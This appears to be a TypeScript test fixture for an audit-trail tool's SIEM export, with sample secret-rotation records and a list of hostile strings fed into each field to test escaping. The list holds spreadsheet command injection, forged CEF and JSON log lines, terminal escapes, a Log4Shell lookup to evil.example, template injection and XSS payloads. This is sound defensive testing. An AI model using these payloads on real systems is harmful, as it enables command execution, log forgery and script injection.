import {leafHash, makeRecord, recordLine} from '../../../src/trail/format/record.ts'
import type {Json} from '../../../src/trail/format/members.ts'
import type {StoredRecord} from '../../../src/trail/format/record.ts'
import type {Surroundings, TrailEvent} from '../../../src/report/siem/event.ts'

export const ORIGIN = 'acme.example/stanch/alice-7f3a'

/** An event of a record with these members. */
export function eventOf(
  kind: string,
  members: Record<string, Json>,
  more: {seq?: number; around?: Surroundings; mode?: 'real' | 'sim'} = {},
): TrailEvent {
  const record = recordOf(kind, members, more.seq)
  const line = recordLine(record)
  return {origin: ORIGIN, record, line, leaf: leafHash(line), mode: more.mode ?? 'real', around: more.around ?? {}}
}

export function recordOf(kind: string, members: Record<string, Json>, seq = 7): StoredRecord {
  const envelope = {seq, prev: 'ab'.repeat(32), salt: `${'A'.repeat(21)}Q`, time: '2026-11-21T10:00:02.312Z', kind}
  return makeRecord(envelope, {inc: 'INC-1', iseq: 3, sid: 's-01', mode: 'real', mono: 1, actor: 'alice@example.com', ...members})
}

export const INTENT = {
  op: 'op-01',
  try: 1,
  action: 'client_secret.rotate',
  tenant: 'acme.eu.auth0.com',
  target: 'client:AbC',
  req: {method: 'POST', path: '/api/v2/clients/AbC/rotate-secret'},
  why: 'it leaked',
  undo: 'none',
} as const

export const OUTCOME = {
  op: 'op-01',
  try: 1,
  intent: 6,
  action: 'client_secret.rotate',
  tenant: 'acme.eu.auth0.com',
  target: 'client:AbC',
  corr: `stanch-${'c'.repeat(56)}`,
  result: 'refused',
  res: {status: 403, ms: 312, date: 'Sat, 21 Nov 2026 10:00:02 GMT'},
  error: {code: 'insufficient_scope', text: 'the tenant answered 403'},
} as const

/** Text that somebody chose in order to be more than text. */
export const HOSTILE: readonly string[] = [
  '',
  '=1+1',
  "=cmd|' /C calc'!A0",
  '+1',
  '-1',
  '@SUM(A1)',
  ' =1',
  '\t=1',
  '\r=1',
  '\n=1',
  '\u00a0=1',
  '\u3000=1',
  '\u200b=1',
  '\ufeff=1',
  '\u0000=1',
  '\u202e=1',
  '＝1+1',
  '＋1',
  '－1',
  '＠SUM(A1)',
  ' ＝1',
  '\u22121',
  '﹦1',
  '"',
  '""',
  '","=1+1',
  '"\r\n"=1+1"',
  "'",
  "'=1",
  ';=1+1',
  'a;=cmd()',
  'a,b\r\nc,d',
  '|',
  '\\',
  '\\|',
  '\\\\|',
  'x|10|fake=1',
  'a=b',
  'a\\=b',
  'msg=forged outcome=success',
  ' cs2=0000',
  'ends with a backslash\\',
  'line\nCEF:0|evil|evil|1|1|1|10|',
  'line\r\n{"origin":"evil","seq":1}',
  '{"origin":"evil"}',
  '"},{"seq":99',
  '\u2028{"seq":1}',
  '\u0085next line',
  '\u001b[2J\u001b]0;title\u0007',
  '\u009b31m',
  '\u007f',
  '\u202edrowssap\u202c',
  '\u200d\u2060\u00ad',
  '__proto__',
  'constructor',
  '%s%n%d',
  '${jndi:ldap://evil.example/x}',
  '{{7*7}}',
  '<script>alert(1)</script>',
  '<!--',
  'javascript:alert(1)',
  '😀 ✓ 漢字 עברית',
  'x'.repeat(5000),
]

/** Kinds and members in which hostile text is put, one at a time. */
export const PLACES: readonly ((text: string) => TrailEvent)[] = [
  (text) => eventOf('note', {text}),
  (text) => eventOf('incident.open', {tenant: text, title: text, leak: text, role: 'lead', ticket: text, severity: text}),
  (text) => eventOf('intent', {...INTENT, action: text, target: text}),
  (text) => eventOf('intent', {...INTENT, req: {method: text, path: text}, why: text}),
  (text) => eventOf('outcome', {...OUTCOME, result: text, error: {code: text, text}, corr: text}),
  (text) => eventOf('observe', {action: text, finding: text, verdict: text, actor: text}),
  (text) => eventOf('decision', {question: text, answer: {deep: [text, {deeper: text}]}, op: text}),
  (text) =>
    eventOf(
      'settle',
      {op: 'op-01', intent: 6, result: 'ok', by: 'state'},
      {
        around: {
          session: recordOf('session.open', {host: text, tool: text, pid: 1}, 1),
          auth: recordOf('auth', {client_id: text, tenant: text}, 2),
          intent: recordOf('intent', {...INTENT, action: text, target: text}, 6),
          opening: recordOf('incident.open', {title: text, tenant: text}, 3),
        },
      },
    ),
]
